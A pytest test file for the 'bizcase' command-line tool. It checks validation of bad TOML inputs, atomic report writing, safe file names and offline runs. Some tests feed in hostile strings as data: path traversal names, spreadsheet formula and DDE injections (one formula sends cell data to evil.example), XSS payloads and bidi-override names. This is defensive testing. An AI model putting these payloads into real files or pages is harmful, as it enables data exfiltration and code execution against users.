"""The boundary of bizcase: bad input, atomic outputs, safe file names, no network.

Every bad input of the catalogue in ``research/reliability-security.md`` §6 that applies to
TOML assumption files is one row of :data:`BAD_INPUTS`. Each row is run through the real
command line (``bizcase run FILE --out DIR --simulations 0``) and must exit 2 with one
message naming the file and the dotted key, print no traceback, and leave DIR empty.
"""

from __future__ import annotations

import hashlib
import importlib.util
import os
import socket
import stat
from dataclasses import dataclass
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from bizcase import assumptions, cli, outputs, pipeline, results
from bizcase.errors import AssumptionError, BizcaseError
from tests.conftest import DEFAULT, TINY

TINY_TEXT = TINY.read_text(encoding="utf-8")
DEFAULT_TEXT = DEFAULT.read_text(encoding="utf-8")
HAS_SIMULATE = importlib.util.find_spec("bizcase.simulate") is not None


def edit(old: str, new: str, text: str = TINY_TEXT) -> str:
    """The text with one exact occurrence of ``old`` replaced (fails loudly if absent)."""
    assert text.count(old) >= 1, f"{old!r} not in the fixture"
    return text.replace(old, new, 1)


def add(extra: str, text: str = TINY_TEXT) -> str:
    return text + "\n" + extra


UNCERTAIN = """
[uncertainty]
simulations = 0
seed = 1
[uncertainty.variables]
"utilization.plateau" = { dist = "triangular", low = 0.3, mode = 0.5, high = 0.7 }
"revenue.price_decline" = { dist = "uniform", low = 0.0, high = 0.1 }
"opex.power_price_eur_per_mwh" = { dist = "uniform", low = 80, high = 120 }
"""


@dataclass(frozen=True)
class Bad:
    """One bad input: the file's content, what the message must name, extra CLI arguments."""

    content: str | bytes | None  # None: no file at all
    expect: tuple[str, ...]
    args: tuple[str, ...] = ()
    names_file: bool = True  # False for mistakes on the command line itself


BAD_INPUTS: dict[str, Bad] = {
    # --- A. files and formats -------------------------------------------------------------
    "empty file": Bad("", ("is empty",)),
    "only comments": Bad("# nothing here\n\n# at all\n", ("is empty",)),
    "binary file": Bad(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", ("binary",)),
    "utf-16 file": Bad(TINY_TEXT.encode("utf-16"), ("binary",)),
    "latin-1 file": Bad(
        edit('"Tiny plant"', '"Tiny £ plant"').encode("latin-1"), ("not UTF-8", "line 5")
    ),
    "huge file": Bad(TINY_TEXT + "#" * 1_200_000 + "\n", ("1,000,000 bytes",)),
    "syntax error": Bad(
        edit("discount_rate = 0.10", "discount_rate = 0.05 0.06"),
        ("project.discount_rate", "0.05 0.06", "line 9", "column"),
    ),
    "unclosed string": Bad(edit('"Tiny plant"', '"Tiny plant'), ("project.name", "line 5")),
    "duplicate key": Bad(
        edit("discount_rate = 0.10", "discount_rate = 0.10\ndiscount_rate = 0.08"),
        ("project.discount_rate", "twice", "lines 9 and 10"),
    ),
    "duplicate table": Bad(add("[tax]\nrate = 0.2\n"), ("[tax]", "twice")),
    "nesting too deep": Bad(add("deep = " + "[" * 5000 + "]" * 5000), ("deep",)),
    # --- B. schema and semantics -------------------------------------------------------------
    "unknown key": Bad(
        edit("discount_rate", "discont_rate"),
        ("project.discont_rate", "did you mean 'discount_rate'"),
    ),
    "unknown section": Bad(edit("[revenue]", "[revenues]"), ("revenues", "did you mean 'revenue'")),
    "section is a value": Bad("funding_gap = 5\n" + TINY_TEXT, ("funding_gap = 5", "table")),
    "array written as table": Bad(add('[debt]\nname = "x"\n'), ("debt", "[[debt]]")),
    "percent string": Bad(
        edit("discount_rate = 0.10", 'discount_rate = "5%"'),
        ("project.discount_rate", "'5%'", "0.05"),
    ),
    "thousands string": Bad(
        edit("gpus = 1000", 'gpus = "1,000"'), ("site.gpus", "'1,000'", "1_000")
    ),
    "decimal comma": Bad(edit("pue = 1.0", 'pue = "1,2"'), ("site.pue", "'1,2'", "plain number")),
    "boolean for number": Bad(
        edit("gpus = 1000", "gpus = true"), ("site.gpus = True", "must be a number")
    ),
    "number for text": Bad(edit('name = "Tiny plant"', "name = 42"), ("project.name = 42", "text")),
    "number for boolean": Bad(
        edit("loss_carry_forward = true", "loss_carry_forward = 1"),
        ("tax.loss_carry_forward = 1", "true or false"),
    ),
    "fraction for whole number": Bad(
        edit("gpus = 1000", "gpus = 1000.5"), ("site.gpus = 1000.5", "whole number")
    ),
    "date for number": Bad(
        edit("start_year = 2026", "start_year = 2026-01-01"),
        ("project.start_year", "must be a number"),
    ),
    "nan": Bad(
        edit("discount_rate = 0.10", "discount_rate = nan"),
        ("project.discount_rate = nan", "finite"),
    ),
    "inf": Bad(
        edit("facility_eur_per_mw = 1_000_000", "facility_eur_per_mw = inf"),
        ("capex.facility_eur_per_mw = inf", "finite"),
    ),
    "nan in a list": Bad(
        edit("spend_profile = [1.0]", "spend_profile = [nan]"),
        ("capex.spend_profile", "item 0", "finite"),
    ),
    "huge magnitude": Bad(
        edit("grid_and_land_eur = 0", "grid_and_land_eur = 1e300"),
        ("capex.grid_and_land_eur = 1e+300", "between 0 and"),
    ),
    "negative price": Bad(
        edit("launch_price_eur_per_gpu_hour = 1.0", "launch_price_eur_per_gpu_hour = -1.0"),
        ("revenue.launch_price_eur_per_gpu_hour = -1.0", "between 0 and 1000"),
    ),
    "partner shares sum to 0.99": Bad(
        edit("share = 0.4", "share = 0.39"), ("partners.*.share", "0.99", "sum to 1")
    ),
    "partner shares sum to 1.005": Bad(
        edit("share = 0.4", "share = 0.405"), ("partners.*.share", "1.005")
    ),
    "negative partner share": Bad(
        edit("share = 0.4", "share = -0.4"), ("partners.1.share = -0.4", "between 0 and 1")
    ),
    "no partners": Bad(TINY_TEXT.split("[[partners]]")[0], ("partners", "at least one")),
    "duplicate partner name": Bad(
        edit('name = "Beta"', 'name = "Alpha"'), ("partners.1.name = 'Alpha'", "unique")
    ),
    "partner names differ by case": Bad(
        edit('name = "Beta"', 'name = "ALPHA "'), ("partners.1.name", "unique")
    ),
    "partner names differ by width": Bad(
        edit('name = "Beta"', 'name = "Ａｌｐｈａ"'), ("partners.1.name", "unique")
    ),
    "blank partner name": Bad(edit('name = "Beta"', 'name = "   "'), ("partners.1.name", "blank")),
    "zero-width character in name": Bad(
        edit('name = "Beta"', 'name = "Alpha\\u200b"'), ("partners.1.name", "U+200B")
    ),
    "bidi override in name": Bad(
        edit('name = "Beta"', 'name = "Beta\\u202egnp.exe"'), ("partners.1.name", "U+202E")
    ),
    "newline in name": Bad(
        edit('name = "Tiny plant"', 'name = "Tiny\\nplant"'), ("project.name", "U+000A")
    ),
    "very long name": Bad(
        edit('name = "Tiny plant"', f'name = "{"x" * 300}"'), ("project.name", "at most 200")
    ),
    "utilization as percent": Bad(
        edit("plateau = 0.5", "plateau = 85"), ("utilization.plateau = 85", "0.85")
    ),
    "discount rate as percent": Bad(
        edit("discount_rate = 0.10", "discount_rate = 8"), ("project.discount_rate = 8", "0.08")
    ),
    "unknown currency": Bad(
        edit("inflation = 0.0", 'inflation = 0.0\ncurrency = "USD"'),
        ("project.currency = 'USD'", "'EUR'"),
    ),
    "unknown choice with typo": Bad(
        edit("inflation = 0.0", 'inflation = 0.0\ndiscounting = "midd"'),
        ("project.discounting", "did you mean 'mid'"),
    ),
    "spend profile too short": Bad(
        edit("construction_years = 1", "construction_years = 2"),
        ("capex.spend_profile = [1.0]", "one per construction year"),
    ),
    "spend profile not summing to 1": Bad(
        edit("construction_years = 1", "construction_years = 2").replace(
            "spend_profile = [1.0]", "spend_profile = [0.5, 0.4]"
        ),
        ("capex.spend_profile", "sum to 0.9"),
    ),
    "deployment longer than operation": Bad(
        edit("deployment = [1.0]", "deployment = [0.25, 0.25, 0.25, 0.25]"),
        ("site.deployment", "at most project.operating_years = 3"),
    ),
    "deployment not summing to 1": Bad(
        edit("deployment = [1.0]", "deployment = [0.5, 0.4]"), ("site.deployment", "sum to 0.9")
    ),
    "zero horizon": Bad(
        edit("operating_years = 3", "operating_years = 0"),
        ("project.operating_years = 0", "between 1 and 60"),
    ),
    "million-year horizon": Bad(
        edit("operating_years = 3", "operating_years = 1_000_000"),
        ("project.operating_years = 1000000", "between 1 and 60"),
    ),
    "negative construction": Bad(
        edit("construction_years = 1", "construction_years = -1"),
        ("project.construction_years = -1",),
    ),
    "source is not text": Bad(
        edit("discount_rate = 0.10", "discount_rate = 0.10\ndiscount_rate_source = 5"),
        ("project.discount_rate_source = 5", "text"),
    ),
    "source of nothing": Bad(
        edit("inflation = 0.0", 'inflation = 0.0\nwacc_source = "x"'),
        ("project.wacc_source", "not set"),
    ),
    # --- scenarios and overrides -------------------------------------------------------------
    "scenario with unknown path": Bad(
        add('[scenarios.down]\n"utilization.platau" = 0.4\n'),
        ("scenarios.down", "utilization.platau", "did you mean 'utilization.plateau'"),
    ),
    "scenario with bad value": Bad(
        add('[scenarios.down]\n"utilization.plateau" = 40\n'),
        ("scenarios.down", "utilization.plateau = 40", "0.4"),
    ),
    "scenario called base": Bad(
        add('[scenarios.base]\n"utilization.plateau" = 0.4\n'), ("scenarios.'base'", "'base'")
    ),
    "scenario name with bidi override": Bad(
        add('[scenarios."down\\u202eside"]\n"utilization.plateau" = 0.4\n'),
        ("scenarios.", "U+202E"),
    ),
    "unknown --scenario": Bad(
        add('[scenarios.downside]\n"utilization.plateau" = 0.4\n'),
        ("scenario 'downsid'", "did you mean 'downside'"),
        ("--scenario", "downsid"),
    ),
    "--scenario without scenarios": Bad(
        TINY_TEXT, ("scenario 'downside'", "none defined"), ("--scenario", "downside")
    ),
    "--scenario without a name": Bad(
        TINY_TEXT, ("--scenario", "requires an argument"), ("--scenario",), names_file=False
    ),
    "--set unknown path": Bad(
        TINY_TEXT,
        ("--set", "revenue.price_declin", "did you mean 'revenue.price_decline'"),
        ("--set", "revenue.price_declin=0.1"),
    ),
    "--set bad value": Bad(
        TINY_TEXT, ("site.gpus = 'many'", "must be a number"), ("--set", "site.gpus=many")
    ),
    "--set wrong unit": Bad(
        TINY_TEXT, ("utilization.plateau = 85", "0.85"), ("--set", "utilization.plateau=85")
    ),
    "--set nan": Bad(
        TINY_TEXT, ("project.discount_rate = nan", "finite"), ("--set", "project.discount_rate=nan")
    ),
    "--set without =": Bad(
        TINY_TEXT, ("--set", "PATH=VALUE"), ("--set", "site.gpus"), names_file=False
    ),
    "--set structural partner index": Bad(
        TINY_TEXT, ("partners.5.share", "not a known input"), ("--set", "partners.5.share=0.1")
    ),
    # --- C. uncertainty -----------------------------------------------------------------------
    "uncertain path unknown": Bad(
        UNCERTAIN.replace('"revenue.price_decline"', '"revenue.price_declin"').join(
            (TINY_TEXT, "")
        ),
        ("revenue.price_declin", "did you mean 'revenue.price_decline'"),
    ),
    "uncertain path not numeric": Bad(
        add(UNCERTAIN + '"project.name" = { dist = "uniform", low = 0, high = 1 }\n'),
        ("project.name",),
    ),
    "uncertain path structural": Bad(
        add(UNCERTAIN + '"project.operating_years" = { dist = "uniform", low = 2, high = 4 }\n'),
        ("project.operating_years", "timeline"),
    ),
    "distribution low > high": Bad(
        add(UNCERTAIN.replace("low = 80, high = 120", "low = 120, high = 80")),
        ("opex.power_price_eur_per_mwh", "high = 80", "low"),
    ),
    "distribution mode outside": Bad(
        add(UNCERTAIN.replace("mode = 0.5", "mode = 0.9")), ("utilization.plateau", "mode = 0.9")
    ),
    "unknown distribution": Bad(
        add(UNCERTAIN.replace('"triangular"', '"triangle"')), ("utilization.plateau", "triangle")
    ),
    "distribution with nan": Bad(
        add(UNCERTAIN.replace("low = 0.0, high = 0.1", "low = nan, high = 0.1")),
        ("revenue.price_decline", "nan"),
    ),
    "correlation with unknown name": Bad(
        add(
            UNCERTAIN
            + '[uncertainty.correlation]\npairs = [["utilization.plateau", "revenue.price_declin", -0.4]]\n'
        ),
        ("uncertainty.correlation", "revenue.price_declin"),
    ),
    "correlation above 1": Bad(
        add(
            UNCERTAIN
            + '[uncertainty.correlation]\npairs = [["utilization.plateau", "revenue.price_decline", 1.5]]\n'
        ),
        ("uncertainty.correlation", "1.5"),
    ),
    "correlations not jointly possible": Bad(
        add(
            UNCERTAIN
            + '[uncertainty.correlation]\npairs = [["utilization.plateau", "revenue.price_decline", 0.9], '
            '["revenue.price_decline", "opex.power_price_eur_per_mwh", 0.9], '
            '["utilization.plateau", "opex.power_price_eur_per_mwh", -0.9]]\n'
        ),
        ("uncertainty.correlation", "positive definite"),
    ),
    "correlation badly shaped": Bad(
        add(UNCERTAIN + '[uncertainty.correlation]\npairs = [["utilization.plateau", 0.4]]\n'),
        ("uncertainty.correlation.pairs",),
    ),
    "unknown sampling": Bad(
        add(UNCERTAIN.replace("seed = 1", 'seed = 1\nsampling = "lhss"')),
        ("uncertainty.sampling = 'lhss'", "did you mean 'lhs'"),
    ),
    "negative simulations": Bad(
        add(UNCERTAIN.replace("simulations = 0", "simulations = -5")),
        ("uncertainty.simulations = -5",),
    ),
    "unknown process": Bad(
        add(UNCERTAIN + "[uncertainty.processes]\npower = { sigma = 0.1 }\n"),
        ("uncertainty.processes.power", "did you mean 'power_price'"),
    ),
    # --- on the default file -------------------------------------------------------------------
    "default: partner share typo": Bad(
        edit("share = 0.25", "share = 0.24", DEFAULT_TEXT), ("partners.*.share", "0.99")
    ),
    "default: unknown key in debt": Bad(
        edit("gearing =", "gearin =", DEFAULT_TEXT), ("debt.0.gearin", "did you mean 'gearing'")
    ),
}


def _run(args: list[str]) -> click.testing.Result:
    return CliRunner().invoke(cli.main, args, catch_exceptions=True)


def _assert_clean_failure(
    result: click.testing.Result, expect: tuple[str, ...], file_name: str | None
) -> None:
    output = result.output  # stdout and stderr, interleaved
    assert result.exit_code == 2, (result.exit_code, output, result.exception)
    assert "Traceback" not in output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert output.count("error:") + output.count("Error:") == 1, output
    if file_name is not None:
        assert file_name in output, output
    for text in expect:
        assert text in output, f"{text!r} not in {output!r}"


@pytest.mark.parametrize("name", list(BAD_INPUTS))
def test_bad_input_exits_2_naming_the_key_and_writes_nothing(name: str, tmp_path: Path) -> None:
    bad = BAD_INPUTS[name]
    src = tmp_path / "case.toml"
    if isinstance(bad.content, bytes):
        src.write_bytes(bad.content)
    elif isinstance(bad.content, str):
        src.write_bytes(bad.content.encode("utf-8"))
    out = tmp_path / "out"
    out.mkdir()
    before = sorted(tmp_path.rglob("*"))
    result = _run(["run", str(src), "--out", str(out), "--simulations", "0", *bad.args])
    _assert_clean_failure(result, bad.expect, str(src) if bad.names_file else None)
    assert list(out.iterdir()) == []
    assert sorted(tmp_path.rglob("*")) == before


def test_there_are_at_least_thirty_bad_inputs() -> None:
    assert len(BAD_INPUTS) >= 30


def test_bad_input_reports_every_problem_at_once(tmp_path: Path) -> None:
    text = edit("discount_rate = 0.10", 'discount_rate = "5%"')
    text = edit("plateau = 0.5", "plateau = 85", text)
    text = edit("gpus = 1000", "gpu = 1000", text)
    src = tmp_path / "case.toml"
    src.write_text(text, encoding="utf-8")
    result = _run(["run", str(src), "--out", str(tmp_path / "out"), "--simulations", "0"])
    _assert_clean_failure(
        result,
        ("3 problems", "project.discount_rate", "utilization.plateau", "site.gpu "),
        str(src),
    )
    assert not (tmp_path / "out").exists()


def test_missing_file(tmp_path: Path) -> None:
    missing = tmp_path / "nope.toml"
    result = _run(["run", str(missing), "--out", str(tmp_path / "out"), "--simulations", "0"])
    _assert_clean_failure(result, ("no such assumptions file",), str(missing))
    assert not (tmp_path / "out").exists()


def test_folder_instead_of_file(tmp_path: Path) -> None:
    result = _run(["run", str(tmp_path), "--out", str(tmp_path / "out"), "--simulations", "0"])
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert not (tmp_path / "out").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_fifo_is_refused_without_reading(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.toml"
    os.mkfifo(fifo)
    with pytest.raises(AssumptionError, match="not a regular file"):
        assumptions.load(fifo)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_endless_device_is_refused() -> None:
    with pytest.raises(AssumptionError, match="not a regular file"):
        assumptions.load("/dev/zero")


def test_output_path_that_is_a_file(tmp_path: Path) -> None:
    src = tmp_path / "case.toml"
    src.write_text(TINY_TEXT, encoding="utf-8")
    target = tmp_path / "report.txt"
    target.write_bytes(b"keep me")
    result = _run(["run", str(src), "--out", str(target), "--simulations", "0"])
    _assert_clean_failure(result, ("--out", "is a file"), None)
    assert target.read_bytes() == b"keep me"


def test_output_path_below_a_file(tmp_path: Path) -> None:
    src = tmp_path / "case.toml"
    src.write_text(TINY_TEXT, encoding="utf-8")
    target = tmp_path / "report.txt"
    target.write_bytes(b"keep me")
    result = _run(["run", str(src), "--out", str(target / "sub"), "--simulations", "0"])
    _assert_clean_failure(result, ("--out", "is a file"), None)
    assert target.read_bytes() == b"keep me"


def test_a_good_file_still_loads() -> None:
    case = assumptions.loads(
        edit('name = "Beta"', 'name = "Bêta — Ωmega GmbH"').encode(), "tiny.toml"
    )
    assert case.data["partners"][1]["name"] == "Bêta — Ωmega GmbH"


def test_shares_that_sum_to_one_only_in_exact_arithmetic_pass() -> None:
    # sum([0.7, 0.2, 0.1]) == 0.9999999999999999 in binary floating point; fsum gives 1.0.
    text = edit("share = 0.6", "share = 0.7")
    text = edit("share = 0.4", "share = 0.2", text)
    text += '\n[[partners]]\nname = "Gamma"\nshare = 0.1\ncost_of_equity = 0.1\n'
    case = assumptions.loads(text.encode(), "tiny.toml")
    assert [p["share"] for p in case.data["partners"]] == [0.7, 0.2, 0.1]


def test_a_utf8_byte_order_mark_is_accepted() -> None:
    case = assumptions.loads(b"\xef\xbb\xbf" + TINY_TEXT.encode(), "tiny.toml")
    assert case.data["project"]["name"] == "Tiny plant"


def test_uncertain_inputs_of_the_default_file_validate() -> None:
    case = assumptions.load(DEFAULT)
    assert case.data["uncertainty"]["variables"]


# --- atomic outputs ------------------------------------------------------------------------


def _hashes(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


@pytest.fixture()
def previous_report(tmp_path: Path) -> tuple[Path, Path, dict[str, str]]:
    """A real report written by ``bizcase run`` on the tiny plant, with the hash of every file."""
    src = tmp_path / "case.toml"
    src.write_text(TINY_TEXT, encoding="utf-8")
    out = tmp_path / "report"
    result = _run(["run", str(src), "--out", str(out), "--simulations", "0", "--no-pdf"])
    assert result.exit_code == 0, result.output
    hashes = _hashes(out)
    assert "results.json" in hashes
    return src, out, hashes


def test_failing_renderer_leaves_previous_report_intact(previous_report, monkeypatch) -> None:
    src, out, hashes = previous_report
    src.write_text(edit("discount_rate = 0.10", "discount_rate = 0.12"), encoding="utf-8")

    def broken(run: pipeline.Run, stem: str, *, pdf: bool = True) -> dict[str, bytes]:
        files = {"results.json": b"{}"}
        raise BizcaseError("the workbook could not be laid out")
        return files  # pragma: no cover

    monkeypatch.setattr(pipeline, "render", broken)
    result = _run(["run", str(src), "--out", str(out), "--simulations", "0", "--no-pdf"])
    assert result.exit_code == 2
    assert _hashes(out) == hashes


def test_bad_input_leaves_previous_report_intact(previous_report) -> None:
    src, out, hashes = previous_report
    src.write_text(edit("share = 0.4", "share = 0.39"), encoding="utf-8")
    result = _run(["run", str(src), "--out", str(out), "--simulations", "0"])
    assert result.exit_code == 2
    assert _hashes(out) == hashes


def test_ctrl_c_mid_run_exits_130_and_leaves_previous_report_intact(
    previous_report, monkeypatch
) -> None:
    src, out, hashes = previous_report

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "run_case", interrupted)
    result = _run(["run", str(src), "--out", str(out), "--simulations", "0"])
    assert result.exit_code == 130
    assert "interrupted: nothing was written" in result.output
    assert "Traceback" not in result.output
    assert _hashes(out) == hashes


def test_ctrl_c_while_files_are_renamed_rolls_back(previous_report, monkeypatch) -> None:
    src, out, hashes = previous_report
    src.write_text(edit("discount_rate = 0.10", "discount_rate = 0.12"), encoding="utf-8")
    real_replace = os.replace
    calls = {"n": 0}

    def replace_then_interrupt(a: str | os.PathLike[str], b: str | os.PathLike[str]) -> None:
        calls["n"] += 1
        if calls["n"] == 2:
            raise KeyboardInterrupt
        real_replace(a, b)

    real_render = pipeline.render

    def render_two(run: pipeline.Run, stem: str, *, pdf: bool = True) -> dict[str, bytes]:
        files = real_render(run, stem, pdf=False)
        files.setdefault("extra.txt", b"second file")
        return files

    monkeypatch.setattr(pipeline, "render", render_two)
    monkeypatch.setattr(outputs.os, "replace", replace_then_interrupt)
    result = _run(["run", str(src), "--out", str(out), "--simulations", "0", "--no-pdf"])
    assert result.exit_code == 130
    assert _hashes(out) == hashes


def test_disk_full_while_staging_leaves_previous_report_intact(
    previous_report, monkeypatch
) -> None:
    src, out, hashes = previous_report
    real_fsync = os.fsync

    def full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(outputs.os, "fsync", full)
    result = _run(["run", str(src), "--out", str(out), "--simulations", "0", "--no-pdf"])
    monkeypatch.setattr(outputs.os, "fsync", real_fsync)
    _assert_clean_failure(result, ("No space left on device", "nothing was replaced"), None)
    assert _hashes(out) == hashes


def test_write_all_replaces_every_file_or_none(tmp_path: Path, monkeypatch) -> None:
    outputs.write_all(tmp_path, {"a.txt": b"old a", "b.txt": b"old b"})
    before = _hashes(tmp_path)
    real_replace = os.replace
    calls = {"n": 0}

    def fail_second(a: str | os.PathLike[str], b: str | os.PathLike[str]) -> None:
        calls["n"] += 1
        if calls["n"] == 2:
            raise PermissionError(13, "Permission denied")
        real_replace(a, b)

    monkeypatch.setattr(outputs.os, "replace", fail_second)
    with pytest.raises(BizcaseError, match="nothing was replaced"):
        outputs.write_all(tmp_path, {"a.txt": b"new a", "b.txt": b"new b", "c.txt": b"new c"})
    assert _hashes(tmp_path) == before


def test_write_all_refuses_names_that_leave_the_folder(tmp_path: Path) -> None:
    for name in ("../evil.txt", "sub/evil.txt", "..", "", ".hidden"):
        with pytest.raises(BizcaseError):
            outputs.write_all(tmp_path / "out", {name: b"x"})
    assert not (tmp_path / "evil.txt").exists()
    assert not (tmp_path / "out").exists()


def test_write_all_removes_stale_temp_files(tmp_path: Path) -> None:
    stale = tmp_path / ".results.json.abc123.tmp"
    stale.write_bytes(b"half")
    old = 1_000_000_000
    os.utime(stale, (old, old))
    outputs.write_all(tmp_path, {"results.json": b"{}"})
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.json"]


# --- file names ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, expected",
    [
        ("AI Gigafactory — base case", "ai-gigafactory-base-case"),
        ("../../etc/passwd", "etc-passwd"),
        ("..", "bizcase"),
        ("", "bizcase"),
        ("   ", "bizcase"),
        ("数据中心", "bizcase"),
        ("Überlandwerk Süd", "uberlandwerk-sud"),
        ("CON", "con-case"),
        ("nul", "nul-case"),
        ("Com1", "com1-case"),
        ("LPT9", "lpt9-case"),
        ("con.xlsx", "con-xlsx"),
        ("report.", "report"),
        ("C:\\Windows\\System32", "c-windows-system32"),
        ("x" * 500, "x" * 60),
        ('=HYPERLINK("http://evil")', "hyperlink-http-evil"),
    ],
)
def test_slug_is_a_safe_file_name(name: str, expected: str) -> None:
    stem = results.slug(name)
    assert stem == expected
    assert stem and len(stem.encode()) <= 60
    assert stem.isascii() and "/" not in stem and "\\" not in stem and not stem.startswith(".")


# --- no network ------------------------------------------------------------------------------


def test_a_full_run_needs_no_network(tmp_path: Path, monkeypatch) -> None:
    attempts: list[str] = []

    def refuse(name: str):
        def blocked(*args: object, **kwargs: object) -> None:
            attempts.append(name)
            raise OSError(f"network access attempted: {name}")

        return blocked

    monkeypatch.setattr(socket.socket, "connect", refuse("connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("connect_ex"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    out = tmp_path / "out"
    sims = "64" if HAS_SIMULATE else "0"
    result = _run(["run", str(DEFAULT), "--out", str(out), "--simulations", sims])
    assert result.exit_code == 0, (result.output, result.exception)
    assert attempts == []
    written = {p.suffix for p in out.iterdir()}
    assert ".json" in written
    if importlib.util.find_spec("bizcase.excel") is not None:
        assert ".xlsx" in written
    if importlib.util.find_spec("bizcase.report") is not None:
        assert {".html", ".pdf"} <= written


# --- validate --------------------------------------------------------------------------------


def test_validate_prints_ok_and_a_summary() -> None:
    result = _run(["validate", str(DEFAULT)])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == f"ok: {DEFAULT}"
    for label in ("capex", "grants", "partners", "horizon"):
        assert any(line.strip().startswith(label) for line in lines), label
    assert "Partner" in result.output or "partner" in result.output.lower()


def test_validate_with_a_scenario() -> None:
    result = _run(["validate", str(DEFAULT), "--scenario", "downside"])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    "name", ["partner shares sum to 0.99", "utilization as percent", "syntax error", "empty file"]
)
def test_validate_rejects_bad_input(name: str, tmp_path: Path) -> None:
    src = tmp_path / "case.toml"
    content = BAD_INPUTS[name].content
    src.write_bytes(content if isinstance(content, bytes) else str(content).encode())
    result = _run(["validate", str(src)])
    _assert_clean_failure(result, BAD_INPUTS[name].expect, str(src))
    assert "ok" not in result.output.split()


# --- CLI hygiene -----------------------------------------------------------------------------


def _commands(
    group: click.Group, prefix: tuple[str, ...] = ()
) -> list[tuple[tuple[str, ...], click.Command]]:
    found = []
    for name, command in group.commands.items():
        found.append(((*prefix, name), command))
        if isinstance(command, click.Group):
            found.extend(_commands(command, (*prefix, name)))
    return found


def test_top_level_help() -> None:
    result = _run(["--help"])
    assert result.exit_code == 0
    assert "Usage:" in result.output
    for name in cli.main.commands:
        assert name in result.output


@pytest.mark.parametrize("path", [" ".join(p) for p, _ in _commands(cli.main)])
def test_every_command_has_help(path: str) -> None:
    command = dict((" ".join(p), c) for p, c in _commands(cli.main))[path]
    assert (command.help or "").strip(), f"bizcase {path} has no help text"
    result = _run([*path.split(), "--help"])
    assert result.exit_code == 0, result.output
    assert "Usage:" in result.output
    for param in command.params:
        if isinstance(param, click.Option) and not param.hidden:
            assert (
                (param.help or "").strip() or param.is_flag and param.name in ("help", "version")
            ), f"bizcase {path} {param.opts[0]} has no help text"


def test_unknown_command_is_a_usage_error() -> None:
    result = _run(["frobnicate"])
    assert result.exit_code == 2
    assert "Traceback" not in result.output


def test_ctrl_c_in_validate_exits_130(monkeypatch) -> None:
    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(assumptions, "load", interrupted)
    result = _run(["validate", str(DEFAULT)])
    assert result.exit_code == 130
    assert "interrupted: nothing was written" in result.output


# --- injection -------------------------------------------------------------------------------

HOSTILE = {
    "project": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "partner": "<script>alert(1)</script>",
    "partner_2": '"><img src=x onerror=alert(2)>',
    "grant": "+cmd|' /C calc'!A0",
    "scenario": "<b onmouseover=alert(3)>down</b>",
}


def _hostile_case() -> str:
    text = edit('name = "Tiny plant"', f"name = {_toml_string(HOSTILE['project'])}")
    text = edit('name = "Alpha"', f"name = {_toml_string(HOSTILE['partner'])}", text)
    text = edit('name = "Beta"', f"name = {_toml_string(HOSTILE['partner_2'])}", text)
    text += (
        f"\n[[grants]]\nname = {_toml_string(HOSTILE['grant'])}\nshare_of_eligible_capex = 0.1\n"
        f"\n[scenarios.{_toml_string(HOSTILE['scenario'])}]\n\"utilization.plateau\" = 0.45\n"
    )
    return text


def _toml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


@pytest.mark.skipif(
    importlib.util.find_spec("bizcase.excel") is None
    or importlib.util.find_spec("bizcase.report") is None,
    reason="needs the workbook and the pack",
)
def test_text_from_assumptions_never_becomes_a_formula_or_markup(tmp_path: Path) -> None:
    import openpyxl

    src = tmp_path / "case.toml"
    src.write_text(_hostile_case(), encoding="utf-8")
    out = tmp_path / "out"
    result = _run(["run", str(src), "--out", str(out), "--simulations", "0", "--no-pdf"])
    assert result.exit_code == 0, result.output
    stem = results.slug(HOSTILE["project"])
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["results.json", f"{stem}.xlsx", f"{stem}.html"]
    )

    book = openpyxl.load_workbook(out / f"{stem}.xlsx")
    texts: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formula = str(cell.value)
                    for fragment in ("evil.example", "calc", "alert", "script", "onerror"):
                        assert fragment not in formula, formula
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
    assert any(HOSTILE["project"] in t for t in texts), "the project name is shown as text"
    assert any(HOSTILE["partner"] in t for t in texts), "the partner name is shown as text"

    html = (out / f"{stem}.html").read_text(encoding="utf-8")
    assert "Content-Security-Policy" in html
    for text in HOSTILE.values():
        assert text not in html, f"{text!r} appears unescaped"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    tags = _tags(html)
    assert not [t for t in tags if t[0] == "script" and "alert" in t[2]]
    assert not [t for t in tags if any(name.startswith("on") for name, _ in t[1])]
    assert not [t for t in tags if t[0] == "img" and ("src", "x") in t[1]]


def _tags(html: str) -> list[tuple[str, list[tuple[str, str | None]], str]]:
    """Every start tag of a document: name, attributes and the text that follows it."""
    from html.parser import HTMLParser

    found: list[tuple[str, list[tuple[str, str | None]], str]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, attrs, ""))

        def handle_data(self, data: str) -> None:
            if found:
                tag, attrs, text = found[-1]
                found[-1] = (tag, attrs, text + data)

    Collect().feed(html)
    return found


def test_outputs_get_the_usual_file_mode(tmp_path: Path) -> None:
